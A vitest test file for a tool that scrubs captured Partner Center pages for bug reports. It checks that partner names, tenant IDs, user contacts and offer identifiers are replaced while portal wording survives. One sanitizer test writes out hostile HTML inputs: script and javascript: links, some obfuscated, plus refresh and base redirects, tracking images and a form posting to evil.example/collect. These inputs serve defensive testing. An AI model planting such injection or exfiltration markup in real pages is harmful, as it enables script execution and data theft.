// @vitest-environment happy-dom
/**
 * "Save this page for a bug report" on crafted portal pages, en and ko: what the file keeps (the
 * structure and the portal's words) and what never survives (partners, tenant IDs, the signed-in
 * user, contacts, e-mail addresses, phone and case numbers, the offer's name and ID), wherever it
 * stands — text, attribute, field, shadow root, template, comment, frame, address — and whether the
 * page could be read or not.
 */
import { describe, expect, it } from 'vitest';
import { readAudiencePage } from '../../../src/portal/audience/read-audience-page';
import { capturePage, type CaptureOptions } from '../../../src/portal/capture/capture-page';
import { AUDIENCE_URL, attachShadow, openCapture, setPage } from './open-capture';

const OFFER_GUID = '3F2504E0-4F89-11D3-9A0C-0305E82C3301';
const TENANT_A = '0F8FAD5B-D9CB-469F-A165-70867728950E';
const TENANT_B = '7c9e6679-7425-40de-944b-e07fc1f90ae7';
const FAKE_1 = '00000000-0000-0000-0000-000000000001';
const FAKE_2 = '00000000-0000-0000-0000-000000000002';
const FAKE_3 = '00000000-0000-0000-0000-000000000003';

function capture(options?: CaptureOptions) {
  const result = capturePage(document, options);
  // The page as written, after the header comment (whose words are the assistant's own).
  return { ...result, page: result.html.slice(result.html.indexOf('-->')) };
}

function expectNone(html: string, secrets: string[]): void {
  const folded = html.toLowerCase();
  for (const secret of secrets) expect(folded, secret).not.toContain(secret.toLowerCase());
}

const HEADER_EN = `
  <header><a href="/en-us/dashboard/home">Partner Center</a>
    <button aria-label="Account manager for Jane Doe" title="jane.doe@contoso.com"><span>JD</span><span>Jane Doe</span><span>Contoso Ltd</span></button>
  </header>`;

const audienceEn = (moduleHeading = 'CSP Reseller audience') => `${HEADER_EN}
  <nav aria-label="Breadcrumb"><a href="/en-us/dashboard/commercial-marketplace/overview">Marketplace offers</a> ›
    <a href="/en-us/dashboard/commercial-marketplace/offers/${OFFER_GUID}/overview">Contoso Analytics</a></nav>
  <h1>Contoso Analytics</h1>
  <p>Offer ID: contoso-analytics</p>
  <p>Offer type: Software as a service (SaaS)</p>
  <span>Published</span>
  <section>
    <h2>${moduleHeading}</h2>
    <label><input type="radio" name="a"> Any partner in the CSP program</label>
    <label><input type="radio" name="a" checked> Specific partners in the CSP program I select</label>
    <label><input type="radio" name="a"> No partners in the CSP program</label>
    <button type="button">Select CSP Partners</button> <button type="button">Save draft</button>
    <input type="search" placeholder="Search by partner name or tenant ID" value="Fabrikam">
    <table aria-label="Authorized CSP partners">
      <thead><tr><th>Partner name</th><th>Tenant ID</th><th>Country/region</th><th>MPN ID</th><th></th></tr></thead>
      <tbody>
        <tr><td>Fabrikam Korea</td><td>${TENANT_A}</td><td>KR</td><td>1234567</td><td><button aria-label="Remove Fabrikam Korea">Remove</button></td></tr>
        <tr><td><span>Tailspin</span> Toys</td><td>{${TENANT_B}}</td><td>US</td><td>7654321</td><td><button>Remove</button></td></tr>
      </tbody>
    </table>
    <h3>Notes about Tailspin Toys</h3>
    <a href="/en-us/dashboard/commercial-marketplace/offers/${OFFER_GUID}/resellers?partner=${TENANT_A.toLowerCase()}&amp;name=Fabrikam%20Korea">Open</a>
  </section>`;

const SECRETS_EN = [
  'Contoso Analytics',
  'contoso-analytics',
  OFFER_GUID,
  OFFER_GUID.replaceAll('-', ''),
  TENANT_A,
  TENANT_B,
  'Fabrikam',
  'Tailspin',
  '1234567',
  '7654321',
  'Jane',
  'jane.doe',
  'contoso.com',
  'Contoso Ltd',
  '>JD<',
];

describe('an audience page, en', () => {
  it('keeps the structure and the portal’s words, and replaces partners, tenant IDs, the user and the offer', () => {
    setPage(
      `${AUDIENCE_URL.replace('contoso-analytics', OFFER_GUID)}?name=Contoso%20Analytics`,
      '<title>Contoso Analytics | Partner Center</title>',
      audienceEn(),
    );
    expect(readAudiencePage(document, location.href).ok).toBe(true);
    const { html, page, summary } = capture();

    expectNone(html, SECRETS_EN);
    for (const word of [
      '<h2>CSP Reseller audience</h2>',
      '> Specific partners in the CSP program I select</label>',
      '<button type="button">Select CSP Partners</button>',
      '<button type="button">Save draft</button>',
      '<th>Partner name</th><th>Tenant ID</th><th>Country/region</th><th>MPN ID</th>',
      'placeholder="Search by partner name or tenant ID"',
      'aria-label="Authorized CSP partners"',
      '<p>Offer ID: xxxxxxx-xxxxxxxxx</p>',
      '<p>Offer type: Software as a service (SaaS)</p>',
      '<span>Published</span>',
      '<button>Remove</button>',
    ])
      expect(page).toContain(word);
    // Cells, the offer's name and the user keep their shape; the same tenant ID is the same fake everywhere.
    expect(page).toContain(`<td>Xxxxxxxx Xxxxx</td><td>${FAKE_2}</td><td>XX</td><td>0000000</td>`);
    expect(page).toContain(`<td>{${FAKE_3}}</td>`);
    expect(page).toContain('<h1>Xxxxxxx Xxxxxxxxx</h1>');
    expect(page).toContain('<title>Xxxxxxx Xxxxxxxxx | Xxxxxxx Xxxxxx</title>');
    expect(page).toContain('<h3>Xxxxx xxxxx Xxxxxxxx Xxxx</h3>');
    expect(page).toContain('<span>XX</span><span>Xxxx Xxx</span>');
    expect(page).toContain(
      `href="/en-us/dashboard/commercial-marketplace/offers/${FAKE_1}/resellers?partner=${FAKE_2}&amp;name=Xxxxxxxx%20Xxxxx"`,
    );
    expect(page).toContain(
      `data-captured-from="https://partner.microsoft.com/en-us/dashboard/commercial-marketplace/offers/${FAKE_1}/resellers?name=Xxxxxxx%20Xxxxxxxxx"`,
    );
    // The form as the publisher left it.
    expect(page).toContain('<input type="radio" name="a" checked>');
    expect(page).toContain('value="Xxxxxxxx"');

    expect(summary.words).toEqual(
      expect.arrayContaining(['CSP Reseller audience', 'Select CSP Partners', 'Save draft', 'Tenant ID', 'Offer ID', 'Published']),
    );
    expectNone(summary.words.join('\n'), SECRETS_EN);
  });

  it('scrubs a page it cannot read the same way, and keeps the words that tell why', () => {
    setPage(AUDIENCE_URL, '', audienceEn('Partners who can resell this offer'));
    const read = readAudiencePage(document, location.href);
    expect(read.ok).toBe(false);
    const { html, summary } = capture();
    expectNone(html, SECRETS_EN);
    expect(summary.words).toContain('Partners who can resell this offer');
    // The page's own offer segment is replaced even when it is a plain word.
    expect(html).toContain('/offers/xxxxxxx-xxxxxxxxx/resellers"');
  });

  it('replaces a label that repeats a plain text of the page: the offer named in a navigation, on a page it cannot read', () => {
    setPage(
      AUDIENCE_URL,
      '<title>Resell through CSPs</title>',
      `<nav aria-label="Secret Offer"><div>Secret Offer</div><a aria-current="page" href="#">Reseller reach</a></nav>
      <h2>Reseller reach</h2><button aria-label="Secret Offer">Open</button><button>Select CSP Partners</button>`,
    );
    expect(readAudiencePage(document, location.href).ok).toBe(false);
    const { html, summary } = capture();
    expectNone(html, ['Secret Offer']);
    expect(summary.words).not.toContain('Secret Offer');
    expect(summary.words).toContain('Select CSP Partners');
  });

  it('judges a word element as a whole, and a labelled value on its own even in a label', () => {
    setPage(
      AUDIENCE_URL,
      '',
      '<button>Select <b>CSP Partners</b></button><label>Offer ID: contoso-analytics</label><button><b>Tailspin</b> Toys</button><table><tr><td>Tailspin Toys</td></tr></table>',
    );
    const { page, summary } = capture();
    expect(page).toContain(
      '<button>Select <b>CSP Partners</b></button><label>Offer ID: xxxxxxx-xxxxxxxxx</label><button><b>Xxxxxxxx</b> Xxxx</button>',
    );
    expect(summary.words).toEqual(['Select CSP Partners', 'Offer ID']);
  });

  it('replaces what the caller knows to be private, however the page spaces it', () => {
    setPage(
      AUDIENCE_URL,
      '',
      '<h2>CSP Reseller audience</h2><button>Add Northwind\u00a0Traders</button><label>Northwind  traders list</label>',
    );
    const { html } = capture({ private: ['Northwind Traders', TENANT_A] });
    expectNone(html, ['Northwind', 'traders']);
    expect(html).toContain('<h2>CSP Reseller audience</h2>');
  });
});

describe('an audience page, ko', () => {
  it('keeps the Korean portal words and replaces Korean names, the user and phone numbers', () => {
    setPage(
      AUDIENCE_URL.replace('en-us', 'ko-kr'),
      '<title>콘토소 분석</title>',
      `<header><button aria-label="김민수 계정 관리자"><span>김민수</span></button></header>
      <h1>콘토소 분석</h1>
      <p>제품 ID: contoso-analytics</p><p>제품 유형: SaaS</p><span>게시됨</span>
      <h2>CSP 재판매인 대상 그룹</h2>
      <div role="radiogroup" aria-label="CSP 재판매인 대상 그룹">
        <div role="radio" aria-checked="false">CSP 프로그램의 모든 파트너</div>
        <div role="radio" aria-checked="true">선택한 CSP 프로그램의 특정 파트너</div>
        <div role="radio" aria-checked="false">CSP 프로그램에 파트너가 없습니다</div>
      </div>
      <div role="button">CSP 파트너 선택</div><div role="button">초안 저장</div>
      <div role="grid" aria-label="권한이 부여된 CSP 파트너">
        <div role="row"><div role="columnheader">파트너 이름</div><div role="columnheader">테넌트 ID</div><div role="columnheader">국가/지역</div></div>
        <div role="row"><div role="gridcell">한빛소프트 주식회사</div><div role="gridcell">${TENANT_A}</div><div role="gridcell">대한민국</div></div>
      </div>
      <h3>한빛소프트 주식회사 메모</h3>
      <label for="phone">담당자 전화</label><input id="phone" value="010-1234-5678">
      <p>문의: 김민수 님 (02) 555-0100</p>`,
    );
    expect(readAudiencePage(document, location.href).ok).toBe(true);
    const { html, page, summary } = capture();
    expectNone(html, ['콘토소', '김민수', '한빛소프트', '대한민국', TENANT_A, '010-1234-5678', '555-0100', 'contoso-analytics']);
    for (const word of [
      'CSP 재판매인 대상 그룹',
      '선택한 CSP 프로그램의 특정 파트너',
      'CSP 파트너 선택',
      '초안 저장',
      '테넌트 ID',
      '담당자 전화',
      '게시됨',
    ])
      expect(summary.words).toContain(word);
    expect(page).toContain('<div role="gridcell">가가가가가 가가가가</div>');
    expect(page).toContain('value="000-0000-0000"');
    expect(page).toContain('<p>가가: 가가가 가 (00) 000-0000</p>');
  });
});

describe('support pages and other portal pages', () => {
  it('replaces the contact fields, the case number and the description, on both steps', () => {
    setPage(
      'https://partner.microsoft.com/en-us/dashboard/support/servicerequests/create?stage=2&topicid=6ba7b810-9dad-11d1-80b4-00c04fd430c8',
      '',
      `${HEADER_EN}
      <h1>Help and support</h1>
      <label for="pv">Select the product version</label>
      <select id="pv"><option>New offer creation</option><option selected>Live offer management</option></select>
      <label for="offer">Offer</label>
      <select id="offer"><option>Select an option</option><option selected>Contoso Analytics</option></select>
      <h2>Issue details</h2>
      <p>Case number: 2401150040001234</p>
      <h3>Case 2401150040001234</h3>
      <label for="t">Title</label><input id="t" value="Deauthorize CSP">
      <label for="d">Description</label><textarea id="d">Offer Contoso Analytics (${TENANT_A}): remove Fabrikam Korea.</textarea>
      <fieldset><legend>Contact information</legend>
        <label for="n">Name</label><input id="n" value="Jane Doe">
        <label for="e">E-mail</label><input id="e" type="email" value="josé@contoso.com">
        <label for="p">Phone</label><input id="p" type="tel" value="+1 (425) 555-0100">
        <label for="pw">Password</label><input id="pw" type="password" value="hunter2">
      </fieldset>
      <button type="submit">Submit</button>`,
    );
    (document.querySelector('#e') as HTMLInputElement).value = 'jose%40contoso.com';
    const { html, summary } = capture();
    expectNone(html, [...SECRETS_EN, '2401150040001234', '555-0100', '4255550100', 'jose', 'josé', 'hunter2', '6ba7b810']);
    for (const word of [
      'Select the product version',
      'Live offer management',
      'Issue details',
      'Contact information',
      'Phone',
      'Deauthorize CSP',
      'Submit',
    ])
      expect(summary.words).toContain(word);
    // The route words of the support pane stay; the topic's GUID is faked.
    expect(html).toContain(`/en-us/dashboard/support/servicerequests/create?stage=0&amp;topicid=${FAKE_1}`);
    expect(html).toContain('<option selected>Xxxxxxx Xxxxxxxxx</option>');
  });

  it('scrubs any other portal page, such as the offers list', () => {
    setPage(
      'https://partner.microsoft.com/en-us/dashboard/commercial-marketplace/overview',
      '',
      `<h1>Marketplace offers</h1>
      <div role="grid"><div role="row"><div role="columnheader">Offer alias</div><div role="columnheader">Status</div></div>
      <div role="row"><div role="gridcell"><a href="/en-us/dashboard/commercial-marketplace/offers/${OFFER_GUID}/overview">Contoso Analytics</a></div><div role="gridcell">Live</div></div></div>`,
    );
    const { html, summary } = capture();
    expectNone(html, ['Contoso', OFFER_GUID]);
    expect(summary.words).toEqual(expect.arrayContaining(['Offer alias', 'Status', 'Live']));
  });
});

describe('where data hides', () => {
  it('walks shadow roots (written as declarative shadow DOM), slots, templates, comments and attributes', () => {
    setPage(
      AUDIENCE_URL,
      '',
      `<he-card><span slot="title">Choose partners</span><he-button>Fabrikam Korea</he-button></he-card>
      <he-data-grid><span slot="c0">Fabrikam Korea</span><span slot="c1">${TENANT_A}</span></he-data-grid>
      <!-- signed in as jane.doe@contoso.com, +82 10-1234-5678 -->
      <template id="row"><div role="row"><div role="gridcell">Tailspin Toys</div></div><button>Save draft</button></template>
      <img alt="Jane Doe" title="Jane Doe" data-user="jane.doe@contoso.com" data-tenant="${TENANT_A}" src="/images/avatar.png">`,
    );
    const card = attachShadow('he-card', '<section><h2><slot name="title"></slot></h2><!-- Contoso Ltd --><slot></slot></section>');
    attachShadow('he-button', '<button class="control" part="control"><slot></slot></button>', card.host.parentNode!);
    attachShadow(
      'he-data-grid',
      '<div role="grid" aria-label="CSP partners"><div role="row"><div role="columnheader">Partner name</div><div role="columnheader">Tenant ID</div></div><div role="row"><div role="gridcell"><slot name="c0"></slot></div><div role="gridcell"><slot name="c1"></slot></div></div></div>',
    );
    const { html, page, summary } = capture();
    expectNone(html, ['Fabrikam', 'Tailspin', TENANT_A, 'Jane', 'jane.doe', 'contoso', '1234-5678']);
    expect(page).toContain(
      '<he-card><template shadowrootmode="open"><section><h2><slot name="title"></slot></h2><slot></slot></section></template>',
    );
    // Slotted into a shadow heading: a portal word; slotted into a shadow grid cell: data (and so it is in the button too).
    expect(summary.words).toEqual(expect.arrayContaining(['Choose partners', 'Partner name', 'Tenant ID', 'CSP partners', 'Save draft']));
    expect(page).toContain('<span slot="c0">Xxxxxxxx Xxxxx</span>');
    expect(page).toContain('<button class="control" part="control"><slot></slot></button></template>Xxxxxxxx Xxxxx</he-button>');
    expect(page).toContain(`<div role="gridcell">Xxxxxxxx Xxxx</div>`);
    expect(page).toContain(
      `<img alt="Xxxx Xxx" title="Xxxx Xxx" data-user="xxxx.xxx@xxxxxxx.xxx" data-tenant="${FAKE_1}" src="/images/xxxxxx.xxx">`,
    );
    expect(page).not.toContain('<!--');
    // Opened again, the shadow roots are there.
    const reopened = openCapture(html);
    expect(reopened.querySelector('he-data-grid')?.shadowRoot?.querySelector('[role="columnheader"]')?.textContent).toBe('Partner name');
  });

  it('scrubs <html> and <body> attributes, and keeps ID references resolving', () => {
    setPage(
      AUDIENCE_URL,
      '',
      `<label for="row-fabrikam-korea">Partner</label><input id="row-fabrikam-korea" aria-describedby="hint row-fabrikam-korea">
      <p id="hint">Fabrikam Korea</p><table><tr><td>Fabrikam Korea</td></tr></table>`,
    );
    document.documentElement.setAttribute('lang', 'en-US');
    document.documentElement.setAttribute('data-user', 'Jane Doe');
    document.body.setAttribute('class', 'theme-light');
    document.body.setAttribute('data-tenant', TENANT_A);
    const { page } = capture();
    expect(page).toContain('<html lang="en-US" data-user="Xxxx Xxx" data-captured-from=');
    expect(page).toContain(`<body class="theme-light" data-tenant="${FAKE_1}">`);
    expect(page).toContain('<label for="ref-1">Partner</label><input id="ref-1" aria-describedby="hint ref-1">');
    expect(page).toContain('<p id="hint">');
  });

  it('inlines a same-origin frame, scrubbed alike', () => {
    const form = `<h2>Issue details</h2><label for="n">Name</label><input id="n" value="Jane Doe"><p>${TENANT_A}</p>`;
    setPage(AUDIENCE_URL, '', `<p>${TENANT_A}</p><iframe title="Help" srcdoc="${form.replace(/"/g, '&quot;')}"></iframe>`);
    expect(document.querySelector('iframe')?.contentDocument?.querySelector('h2')?.textContent).toBe('Issue details');
    const { html } = capture();
    expectNone(html, ['Jane', TENANT_A]);
    const srcdoc =
      /srcdoc="([^"]*)"/
        .exec(html)?.[1]
        ?.replace(/&quot;/g, '"')
        .replace(/&amp;/g, '&') ?? '';
    expect(srcdoc).toContain('<h2>Issue details</h2>');
    expect(srcdoc).toContain('value="Xxxx Xxx"');
    // One numbering for the page and its frames.
    expect(srcdoc).toContain(`<p>${FAKE_1}</p>`);
    expect(html).toContain('Same-origin frames inlined (scrubbed alike): 1.');
  });
});

describe('what is removed', () => {
  it('drops scripts, handlers, javascript: and other hosts’ addresses, refresh, base, objects, and foreign frames', () => {
    setPage(
      AUDIENCE_URL,
      `<meta charset="utf-8"><meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
      <script>steal()</script><link rel="stylesheet" href="https://cdn.example/portal.css"><link rel="stylesheet" href="/styles/portal.css">
      <style>.a { background: url("https://evil.example/track.png") } .b { background: url(/images/${TENANT_A}/b.png) } @import "https://evil.example/x.css";</style>`,
      `<button onclick="steal()" onmouseover="steal()">Save draft</button>
      <a href="javascript:steal()">Help</a><a href=" JavaScript:steal()">Help</a><a href="java&#9;script:steal()">Help</a>
      <a href="https://evil.example/">Help</a><a href="//evil.example/">Help</a><a href="\\\\evil.example/">Help</a><a href="mailto:jane@contoso.com">Mail</a>
      <a href="https://partner.microsoft.com/en-us/dashboard/home#section-2">Home</a>
      <img src="https://graph.microsoft.com/v1.0/me/photo" srcset="/a.png 1x, https://evil.example/b.png 2x"><img src="data:image/png;base64,AAAA">
      <iframe src="https://evil.example/frame" srcdoc=""></iframe><object data="/x.swf"></object><embed src="/x.swf"><noscript><img src="https://evil.example/p"></noscript>
      <form action="https://evil.example/collect"><input type="image" src="https://evil.example/i.png"></form>
      <div style="background-image: url('https://evil.example/u.png')">x</div>`,
    );
    const { html } = capture();
    expectNone(html, [
      'evil.example',
      'cdn.example',
      'graph.microsoft.com',
      'steal',
      'javascript',
      'mailto',
      'data:image',
      '<script',
      '<object',
      '<embed',
      '<base',
      'http-equiv',
      '<noscript',
      'srcset',
      TENANT_A,
    ]);
    expect(html).toContain('<button>Save draft</button>');
    expect(html).toContain('<link rel="stylesheet"><link rel="stylesheet" href="/styles/xxxxxx.xxx">');
    expect(html).toContain(`url(/images/${FAKE_1}/x.xxx)`);
    expect(html).toContain('href="https://partner.microsoft.com/en-us/dashboard/home#section-2"');
    expect(html).toContain('<iframe></iframe>');
    expect(html).toMatch(/Removed: 6 scripts and embedded objects, 2 event handlers, (\d+) addresses/);
  });
});

describe('the file and its summary', () => {
  it('opens with a comment that says what was kept, replaced and removed, with counts, and returns the same counts', () => {
    setPage(AUDIENCE_URL, '', `<h2>CSP Reseller audience</h2><button>Save draft</button><p>Fabrikam Korea</p><p>${TENANT_A}</p><!-- x -->`);
    const { html, summary } = capture();
    expect(html.startsWith('\ufeff<!--\nCSP Audience Assistant: a copy of a Partner Center page for a bug report')).toBe(true);
    expect(html).toContain(`and ${summary.kept} texts`);
    expect(html).toContain(`${summary.replaced} texts and values`);
    expect(html).toContain('1 GUIDs (numbered fake GUIDs');
    expect(html).toContain('1 comments');
    expect(html.indexOf('-->')).toBeLessThan(html.indexOf('<!doctype html>'));
    expect(summary).toEqual({ kept: 2, replaced: 2, words: ['CSP Reseller audience', 'Save draft'] });
  });
});
